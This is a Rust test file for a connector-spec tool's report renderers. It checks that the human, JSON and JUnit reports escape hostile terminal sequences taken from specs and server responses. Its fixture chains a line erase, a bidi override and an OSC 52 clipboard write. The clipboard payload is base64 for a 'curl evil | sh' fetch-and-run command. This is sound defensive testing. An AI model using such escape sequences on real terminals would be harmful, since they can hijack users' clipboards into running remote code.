//! The test reports show control and bidirectional characters from the spec and the server
//! (a granted scope, a failed attempt's message, a URL, a finding) as escapes in the human
//! report, and keep them exact but escaped in the JSON and `JUnit` reports.

use connspec_diagnostics::Severity;
use connspec_diagnostics::SourceFile;
use connspec_diagnostics::terminal::is_unsafe;
use connspec_model::{CheckOptions, check_source};
use connspec_runtime::codes::UNEXPECTED_STATUS;
use connspec_runtime::report::{ReportContext, render_human, render_json, render_junit};
use connspec_runtime::{ActionReport, Exchange, Finding, Outcome, RunReport, TokenReport};

/// Erase the line, write the clipboard (OSC 52), return the carriage, override the direction,
/// a C1 control sequence introducer.
const HOSTILE: &str = "x\u{1b}[2K\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\r\u{202e}y\u{9b}31m";

const SPEC: &str = "spec_version: 1\nname: demo\nbase_url: https://api.example.com\n\
                    auth: { type: none }\nactions:\n  list_items: { method: GET, path: /items }\n";

fn report() -> RunReport {
    let hostile = |what: &str| format!("{what} {HOSTILE}");
    RunReport {
        connector: "demo".to_owned(),
        token: Some(TokenReport {
            grant: "client_credentials".to_owned(),
            token_url: hostile("https://api.example.com/oauth/token"),
            client_authentication: Some(hostile("request_body")),
            failed_attempts: vec![hostile("basic_header: invalid_client")],
            token_type: Some("Bearer".to_owned()),
            expires_in: Some(3600),
            requested_scopes: vec![hostile("read")],
            granted_scopes: Some(vec![hostile("granted")]),
            requests: 1,
            // `-vv` prints the token endpoint's headers and body too.
            exchanges: vec![Exchange {
                request: vec![hostile("POST https://api.example.com/oauth/token")],
                request_body: Some(hostile("grant_type=client_credentials")),
                response: vec!["400 Bad Request".to_owned(), hostile("x-trace: 2")],
                body: Some(hostile("{\"error\":\"invalid_client\"}")),
            }],
        }),
        token_error: None,
        actions: vec![
            ActionReport {
                name: hostile("list_items"),
                pointer: "/actions/list_items".to_owned(),
                method: "GET",
                url: hostile("https://api.example.com/items"),
                outcome: Outcome::Failed,
                skipped: None,
                status: Some(500),
                latency_ms: 3,
                bytes: 10,
                attempts: 1,
                findings: vec![Finding {
                    code: &UNEXPECTED_STATUS,
                    severity: Severity::Error,
                    message: hostile("status 500: the server said"),
                    pointer: "/actions/list_items".to_owned(),
                }],
                // `--verbose` prints what the server sent: its headers and body too.
                exchange: Some(Exchange {
                    request: vec![hostile("GET https://api.example.com/items")],
                    request_body: None,
                    response: vec![
                        "500 Internal Server Error".to_owned(),
                        hostile("x-trace: 1"),
                    ],
                    body: Some(hostile("the body")),
                }),
            },
            ActionReport {
                name: "other".to_owned(),
                pointer: "/actions/list_items".to_owned(),
                method: "POST",
                url: "https://api.example.com/items".to_owned(),
                outcome: Outcome::Skipped,
                skipped: Some(hostile("a write")),
                status: None,
                latency_ms: 0,
                bytes: 0,
                attempts: 0,
                findings: Vec::new(),
                exchange: None,
            },
        ],
        token_requests: 1,
        requests: 1,
        elapsed_ms: 5,
        renewed_token: None,
        interactions: Vec::new(),
    }
}

#[test]
fn every_report_format_escapes_controls_from_the_spec_and_the_server() {
    let spec = SourceFile::new("spec.yaml", SPEC);
    let checked = check_source(&spec, &CheckOptions::default());
    let document = checked.document.expect("the spec loads");
    let instance = format!("instance {HOSTILE}.yaml");
    let context = ReportContext {
        spec: &spec,
        shown: &spec,
        document: &document,
        instance: &instance,
        auth: "oauth2 client_credentials",
    };
    let report = report();
    for color in [false, true] {
        let human = render_human(&report, &context, color);
        // Colours are ANSI sequences of the renderer's own; none may come from the text.
        let text = if color {
            strip_styles(&human)
        } else {
            human.clone()
        };
        if let Some(c) = text.chars().find(|c| is_unsafe(*c)) {
            panic!("the human report (color {color}) prints {c:?} raw:\n{human}");
        }
        assert!(text.contains("\\u{1b}[2K"), "{human}");
        assert!(text.contains("granted x\\u{1b}"), "{human}");
    }
    let json = render_json(&report, &context);
    assert!(!json.chars().any(is_unsafe), "{json}");
    let parsed: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!(
        parsed["report"]["token"]["granted_scopes"][0],
        format!("granted {HOSTILE}"),
        "the JSON report keeps the exact string"
    );
    let junit = render_junit(&report, &context);
    assert!(!junit.chars().any(is_unsafe), "{junit}");
}

/// `text` without the colour sequences (`ESC [ digits ; … m`) a renderer adds; any other
/// escape stays, so the caller sees it.
fn strip_styles(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('\u{1b}') {
        out.push_str(&rest[..at]);
        let after = &rest[at..];
        let parameters = after.strip_prefix("\u{1b}[").map(|tail| {
            tail.len()
                - tail
                    .trim_start_matches(|c: char| c.is_ascii_digit() || c == ';')
                    .len()
        });
        match parameters {
            Some(n) if after[2 + n..].starts_with('m') => rest = &after[3 + n..],
            _ => {
                out.push('\u{1b}');
                rest = &after[1..];
            }
        }
    }
    out.push_str(rest);
    out
}
